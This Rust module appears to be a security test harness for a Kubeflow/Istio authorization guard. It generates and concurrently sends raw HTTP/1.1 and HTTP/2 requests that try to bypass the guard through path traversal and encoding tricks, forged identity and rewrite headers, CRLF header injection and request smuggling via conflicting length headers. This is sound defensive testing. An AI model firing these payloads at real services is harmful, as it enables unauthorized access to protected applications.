//! Requests that try to get past authorization, as bytes.
//!
//! Nothing here knows a session: whatever reaches the guarded application got past. The table is a
//! function of two prefixes, one that is guarded and one that is open, and grows by adding a line.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

use anyhow::{Context as _, Result};

/// How long an answer that began may pause before it counts as whole.
const PAUSE: Duration = Duration::from_millis(1500);
/// How long an answer may let wait for itself.
const LIMIT: Duration = Duration::from_secs(20);
/// Attempts under way at the same time.
const AT_ONCE: usize = 16;
const HOST: &str = "apps.example.com";

/// One attempt.
#[derive(Clone, Debug)]
pub struct Attack {
    /// What is tried.
    pub name: String,
    /// What is sent.
    pub bytes: Vec<u8>,
    /// Whether it is a whole request, which a server answers or hangs up on. Of the others it may
    /// wait for the rest.
    pub whole: bool,
}

/// What came back.
#[derive(Clone, Debug, Default)]
pub struct Answer {
    /// Everything until the other side ended or paused.
    pub bytes: Vec<u8>,
    /// Whether the other side ended it.
    pub ended: bool,
}

impl Answer {
    /// Whether the other side said or did anything.
    pub fn is_one(&self) -> bool {
        self.ended || !self.bytes.is_empty()
    }
}

/// Sends an attempt and gives everything that comes back until the other side ends or pauses.
///
/// # Errors
/// No connection.
pub fn send(address: SocketAddr, attack: &Attack) -> Result<Answer> {
    let mut stream = TcpStream::connect_timeout(&address, LIMIT)
        .with_context(|| format!("connect to {address}"))?;
    let first = if attack.whole { LIMIT } else { PAUSE };
    stream.set_read_timeout(Some(first))?;
    stream.set_write_timeout(Some(LIMIT))?;
    let mut answer = Answer::default();
    // A server that does not like a request may close before it has all of it, and what it said
    // before is still there to be read.
    let _closed = stream.write_all(&attack.bytes);
    let mut block = [0; 16 * 1024];
    loop {
        match stream.read(&mut block) {
            Ok(0) => answer.ended = true,
            Ok(count) => {
                answer.bytes.extend_from_slice(&block[..count]);
                stream.set_read_timeout(Some(PAUSE))?;
                continue;
            }
            Err(error) if error.kind() == ErrorKind::Interrupted => continue,
            Err(error) => {
                answer.ended = !matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut);
            }
        }
        return Ok(answer);
    }
}

/// Sends every attempt, several at a time: many are answered only by the pause at their end. The
/// answers are in the table's order.
///
/// # Errors
/// No connection.
pub fn send_all(address: SocketAddr, table: &[Attack]) -> Result<Vec<Answer>> {
    let share = table.len().div_ceil(AT_ONCE).max(1);
    let answers = thread::scope(|scope| {
        let senders: Vec<_> = table
            .chunks(share)
            .map(|attacks| {
                scope.spawn(move || {
                    let answers = attacks.iter().map(|attack| send(address, attack));
                    answers.collect::<Result<Vec<_>>>()
                })
            })
            .collect();
        let joined = senders.into_iter().map(|sender| {
            let answers = sender.join();
            answers.unwrap_or_else(|_| Err(anyhow::anyhow!("a sender ended early")))
        });
        joined.collect::<Result<Vec<_>>>()
    })?;
    Ok(answers.into_iter().flatten().collect())
}

/// All attempts on what is under `guarded`, with `open` (both like `/a`) as a way in.
pub fn table(guarded: &str, open: &str) -> Vec<Attack> {
    let mut attacks = paths(guarded, open);
    attacks.extend(hosts(guarded));
    attacks.extend(headers(guarded, open));
    attacks.extend(methods(guarded));
    attacks.extend(framing(guarded, open));
    attacks.extend(second_version(guarded, open));
    attacks
}

/// A whole request.
fn attack(name: String, text: &str) -> Attack {
    Attack {
        name,
        bytes: text.as_bytes().to_vec(),
        whole: true,
    }
}

fn get(path: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n")
}

/// Spellings of paths: encoded, doubled, dotted, parametrised, and out of an open prefix.
pub fn spellings(guarded: &str, open: &str) -> Vec<String> {
    let bare = guarded.trim_start_matches('/');
    let (first, rest) = bare.split_at(1);
    let encoded = format!(
        "%{:02x}{rest}",
        first.as_bytes().first().copied().unwrap_or(0)
    );
    let upper = bare.to_ascii_uppercase();
    let plain = [
        "/x",
        "",
        "/",
        "//x",
        "/./x",
        "/.",
        "/..",
        "/../",
        "/%2e",
        "/%2e%2e/",
        "/x?y",
        "?x",
        "/x#y",
        "#",
        ";/x",
        ";a=b/x",
        "/;x",
        "/..;/x",
        "%2fx",
        "%2Fx",
        "%5cx",
        "\\x",
        "%00",
        "%20",
        "/%",
        "/%zz",
        "/%c0%af",
        "/%u002f",
        "/x%0d%0aX: y",
        "/x/../x",
        "/*",
        "/~",
        "/x%23y",
        "/x%3fy",
    ];
    let mut paths: Vec<String> = plain
        .iter()
        .map(|tail| format!("{guarded}{tail}"))
        .collect();
    paths.extend([
        format!("/{guarded}/x"),
        format!("///{guarded}/x"),
        format!("/.{guarded}/x"),
        format!("/a/..{guarded}/x"),
        format!("/%2e%2e{guarded}/x"),
        format!("/{encoded}/x"),
        format!("/%2f{bare}/x"),
        format!("/{upper}/x"),
        format!("\\{bare}\\x"),
    ]);
    let ways = [
        "/..",
        "/%2e%2e",
        "/.%2e",
        "/%2E.",
        "/..;",
        "/..;a",
        "//..",
        "/./..",
        "/x/../..",
        "/%252e%252e",
        "\\..",
        "%5c..",
        "%2f..",
        "/..%2f",
        "/..%5c",
        "/;/..",
        "/..%00",
        "/..%3b",
        "/%c0%ae%c0%ae",
        "x/..",
        "/%2e%2e%2f",
        "/..?",
        "/..#",
    ];
    paths.extend(ways.iter().map(|way| format!("{open}{way}{guarded}/x")));
    let own = "/.well-known/istio-integrator/probe";
    paths.extend(
        ["/../../..", "%2f..%2f..%2f..", "/..;/..;/..;", ";"]
            .map(|way| format!("{own}{way}{guarded}/x")),
    );
    paths
}

fn paths(guarded: &str, open: &str) -> Vec<Attack> {
    let paths = spellings(guarded, open);
    let of = |path: String| attack(format!("path {path}"), &get(&path));
    paths.into_iter().map(of).collect()
}

fn hosts(guarded: &str) -> Vec<Attack> {
    let names = [
        "APPS.example.COM",
        "apps.example.com.",
        "apps.example.com:80",
        "apps.example.com:1",
        "localhost",
        "127.0.0.1",
        "[::1]",
        "",
        "*",
        "echo.svc.cluster.local",
        "a@apps.example.com",
        "apps.example.com/x",
        "istio-integrator",
        "other.example.com",
    ];
    let of = |host: &str| {
        let text = format!("GET {guarded}/x HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        attack(format!("host {host:?}"), &text)
    };
    names.into_iter().map(of).collect()
}

fn headers(guarded: &str, open: &str) -> Vec<Attack> {
    let mut lines: Vec<String> = [
        "X-Original-URL",
        "X-Rewrite-URL",
        "X-Forwarded-Prefix",
        "X-Envoy-Original-Path",
        "X-Original-URI",
    ]
    .iter()
    .map(|name| format!("{name}: {open}/x"))
    .collect();
    lines.extend(
        [
            "X-Forwarded-For: 127.0.0.1",
            "X-Envoy-Internal: true",
            "X-Envoy-External-Address: 10.0.0.1",
            "X-Istio-Integrator-Guard: 0",
            "X-Istio-Integrator-Guard:",
            "x_istio_integrator_guard: 0",
            "Kubeflow-Userid: mallory",
            "kubeflow_userid: mallory",
            "Authorization: Bearer x",
            "Authorization: Basic eDp4",
            "Cookie: session=",
            "Cookie: session",
            "Cookie: SESSION=mallory",
            "Cookie: a=b; Session=mallory",
            "Cookie2: session=mallory",
            "X-Cookie: session=mallory",
            "X-Http-Method-Override: OPTIONS",
            "X-Forwarded-Proto: https",
            "X-Forwarded-Host: other.example.com",
            "X-Envoy-Decorator-Operation: x",
            "X-Envoy-Upstream-Rq-Timeout-Ms: 1",
            "X-Envoy-Retry-On: 5xx,retriable-4xx",
            "X-Envoy-Max-Retries: 9",
            "X-B3-Sampled: 1",
            "Expect: 100-continue",
            "Connection: X-Istio-Integrator-Guard",
            "Connection: Cookie, close",
            "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==",
            "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
            "Host: other.example.com",
            "@request.auth.claims.iss: x",
        ]
        .map(str::to_owned),
    );
    let of = |line: String| {
        let text = format!(
            "GET {guarded}/x HTTP/1.1\r\nHost: {HOST}\r\n{line}\r\nConnection: close\r\n\r\n"
        );
        attack(format!("header {line:?}"), &text)
    };
    lines.into_iter().map(of).collect()
}

fn methods(guarded: &str) -> Vec<Attack> {
    let names = [
        "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "get", "G\u{1}T",
        "PRI",
    ];
    let of = |method: &str| {
        let text = format!(
            "{method} {guarded}/x HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        );
        attack(format!("method {method:?}"), &text)
    };
    names.into_iter().map(of).collect()
}

/// Where a message begins and ends: requests inside of others, and lines that are none.
fn framing(guarded: &str, open: &str) -> Vec<Attack> {
    let inner = get(&format!("{guarded}/x"));
    let length = inner.len();
    let chunk = format!("{length:x}\r\n{inner}\r\n0\r\n\r\n");
    let post = |headers: &str, body: &str| {
        format!("POST {open}/x HTTP/1.1\r\nHost: {HOST}\r\n{headers}\r\n\r\n{body}")
    };
    let both = "Content-Length: 5\r\nTransfer-Encoding: chunked";
    let rows = [
        ("absolute form", get(&format!("http://{HOST}{guarded}/x"))),
        (
            "absolute form of another host",
            get(&format!("http://other.example.com{guarded}/x")),
        ),
        (
            "absolute form of TLS",
            get(&format!("https://{HOST}{guarded}/x")),
        ),
        (
            "absolute form with a user",
            get(&format!("http://a:b@{HOST}{guarded}/x")),
        ),
        (
            "absolute form of the open path",
            get(&format!("http://{HOST}{open}/..{guarded}/x")),
        ),
        (
            "HTTP/1.0",
            format!("GET {guarded}/x HTTP/1.0\r\nHost: {HOST}\r\n\r\n"),
        ),
        (
            "HTTP/1.0 without host",
            format!("GET {guarded}/x HTTP/1.0\r\n\r\n"),
        ),
        ("HTTP/0.9", format!("GET {guarded}/x\r\n")),
        (
            "no host",
            format!("GET {guarded}/x HTTP/1.1\r\nConnection: close\r\n\r\n"),
        ),
        (
            "bare line feeds",
            format!("GET {guarded}/x HTTP/1.1\nHost: {HOST}\nConnection: close\n\n"),
        ),
        (
            "a folded line",
            format!(
                "GET {guarded}/x HTTP/1.1\r\nHost: {HOST}\r\nX: a\r\n b\r\nConnection: close\r\n\r\n"
            ),
        ),
        (
            "a blank before the colon",
            format!("GET {guarded}/x HTTP/1.1\r\nHost : {HOST}\r\nConnection: close\r\n\r\n"),
        ),
        (
            "tabs for blanks",
            format!("GET\t{guarded}/x\tHTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n"),
        ),
        (
            "a second request behind an open one",
            format!("GET {open}/x HTTP/1.1\r\nHost: {HOST}\r\n\r\n{inner}"),
        ),
        (
            "a request in a body that is too long",
            post("Content-Length: 0", &inner),
        ),
        (
            "lengths that disagree",
            post("Content-Length: 0\r\nContent-Length: 9", &inner),
        ),
        (
            "length and chunks",
            post(both, &format!("0\r\n\r\n{inner}")),
        ),
        (
            "chunks and length",
            post(
                "Transfer-Encoding: chunked\r\nContent-Length: 5",
                &format!("0\r\n\r\n{inner}"),
            ),
        ),
        (
            "chunks after a blank",
            post(
                "Transfer-Encoding : chunked\r\nContent-Length: 5",
                &format!("0\r\n\r\n{inner}"),
            ),
        ),
        (
            "chunks of another spelling",
            post(
                "Transfer-Encoding: xchunked\r\nContent-Length: 5",
                &format!("0\r\n\r\n{inner}"),
            ),
        ),
        (
            "chunks told twice",
            post(
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
                &format!("0\r\n\r\n{inner}"),
            ),
        ),
        (
            "a request as a chunk",
            post("Transfer-Encoding: chunked", &chunk),
        ),
        (
            "a chunk with an extension",
            post("Transfer-Encoding: chunked", &format!("0;\r\n{inner}")),
        ),
        (
            "a tunnel",
            format!("CONNECT {HOST}:80 HTTP/1.1\r\nHost: {HOST}:80\r\n\r\n{inner}"),
        ),
        (
            "a tunnel to the path",
            format!("CONNECT {guarded}/x HTTP/1.1\r\nHost: {HOST}\r\n\r\n{inner}"),
        ),
        (
            "all options",
            format!("OPTIONS * HTTP/1.1\r\nHost: {HOST}\r\n\r\n{inner}"),
        ),
    ];
    let of = |(name, text): (&str, String)| Attack {
        whole: false,
        ..attack(name.to_owned(), &text)
    };
    rows.into_iter().map(of).collect()
}

/// HTTP/2 without TLS, where what a request is for stands in headers.
fn second_version(guarded: &str, open: &str) -> Vec<Attack> {
    let path = format!("{guarded}/x");
    let usual = |path: &str| {
        vec![
            (":method".to_owned(), "GET".to_owned()),
            (":scheme".to_owned(), "http".to_owned()),
            (":authority".to_owned(), HOST.to_owned()),
            (":path".to_owned(), path.to_owned()),
        ]
    };
    let with = |more: &[(&str, &str)]| {
        let mut headers = usual(&path);
        for (name, value) in more {
            headers.retain(|(known, _)| known != name);
            headers.push(((*name).to_owned(), (*value).to_owned()));
        }
        headers
    };
    let twice = |name: &str, value: &str| {
        let mut headers = usual(&format!("{open}/x"));
        headers.push((name.to_owned(), value.to_owned()));
        headers
    };
    let rows = [
        ("as it is", usual(&path)),
        ("out of the open path", usual(&format!("{open}/..{path}"))),
        (
            "encoded out of the open path",
            usual(&format!("{open}/%2e%2e{path}")),
        ),
        ("without a slash", usual(path.trim_start_matches('/'))),
        ("an absolute path", usual(&format!("http://{HOST}{path}"))),
        ("two paths", twice(":path", &path)),
        ("another scheme", with(&[(":scheme", "https")])),
        ("no scheme's name", with(&[(":scheme", "http://x")])),
        (
            "another authority",
            with(&[(":authority", "other.example.com")]),
        ),
        (
            "an authority with a path",
            with(&[(":authority", "apps.example.com/x")]),
        ),
        (
            "a host beside the authority",
            with(&[("host", "other.example.com")]),
        ),
        (
            "an upper case header",
            with(&[("X-Istio-Integrator-Guard", "0")]),
        ),
        (
            "the guard's header",
            with(&[("x-istio-integrator-guard", "0")]),
        ),
        ("an identity", with(&[("kubeflow-userid", "mallory")])),
        (
            "a line break in a header",
            with(&[("x", "a\r\nkubeflow-userid: mallory")]),
        ),
        (
            "a line break in the path",
            usual(&format!("{open}/x HTTP/1.1\r\nHost: x\r\n\r\nGET {path}")),
        ),
        (
            "a forbidden header",
            with(&[("transfer-encoding", "chunked")]),
        ),
        (
            "a tunnel",
            with(&[(":method", "CONNECT"), (":protocol", "websocket")]),
        ),
        ("another method", with(&[(":method", "POST")])),
        (
            "a method with blanks",
            with(&[(":method", "GET /x HTTP/1.1")]),
        ),
    ];
    let of = |(name, headers): (&str, Vec<(String, String)>)| Attack {
        name: format!("HTTP/2: {name}"),
        bytes: connection(&headers),
        whole: false,
    };
    rows.into_iter().map(of).collect()
}

/// One request on a new HTTP/2 connection: preface, settings, headers (RFC 9113, RFC 7541 6.2.2).
fn connection(headers: &[(String, String)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in headers {
        // Literal, not indexed, not compressed; all our texts are shorter than 127 bytes.
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or(126) & 0x7f);
            block.extend_from_slice(text.as_bytes());
        }
    }
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend_from_slice(&[0, 0, 0, 4, 0, 0, 0, 0, 0]);
    let length = u32::try_from(block.len()).unwrap_or(0).to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    // Type HEADERS, END_STREAM and END_HEADERS, stream 1.
    bytes.extend_from_slice(&[1, 5, 0, 0, 0, 1]);
    bytes.extend_from_slice(&block);
    bytes
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn the_table_is_large_and_no_attempt_is_there_twice() {
        let attacks = table("/lab-echo", "/lab-status");
        assert!(attacks.len() >= 120, "{}", attacks.len());
        let names: BTreeSet<&String> = attacks.iter().map(|attack| &attack.name).collect();
        assert_eq!(names.len(), attacks.len());
        let secret = |attack: &&Attack| attack.bytes.windows(8).any(|bytes| bytes == b"session=");
        for attack in attacks.iter().filter(secret) {
            let text = String::from_utf8_lossy(&attack.bytes);
            let harmless = text.contains("session=\r")
                || text.contains("Cookie2")
                || text.contains("X-Cookie");
            assert!(harmless, "{} carries a session", attack.name);
        }
    }

    #[test]
    fn a_request_of_http_2_is_framed() {
        let bytes = connection(&[(":path".to_owned(), "/".to_owned())]);
        assert!(bytes.ends_with(b"\x00\x05:path\x01/"));
        assert_eq!(bytes[24..33], [0, 0, 0, 4, 0, 0, 0, 0, 0]);
        assert_eq!(bytes[33..42], [0, 0, 9, 1, 5, 0, 0, 0, 1]);
    }
}
